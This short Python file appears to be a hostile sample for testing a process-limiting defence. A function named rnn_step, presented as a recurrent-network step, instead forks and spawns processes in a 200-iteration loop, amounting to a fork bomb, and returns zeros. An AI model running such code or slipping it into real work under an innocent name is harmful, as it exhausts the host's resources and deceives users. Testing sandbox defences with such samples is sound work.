# ruff: noqa
"""Forks, spawns and execs as often as it can."""
# defence: filter: processes

import os
import subprocess


def rnn_step(x, h, W_xh, W_hh, b):
    for _ in range(200):
        for start in (
            os.fork,
            lambda: subprocess.Popen(["/bin/sleep", "99"]),
            lambda: os.posix_spawn("/bin/sleep", ["sleep", "99"], {}),
        ):
            try:
                start()
            except OSError:
                pass
    return 0 * h
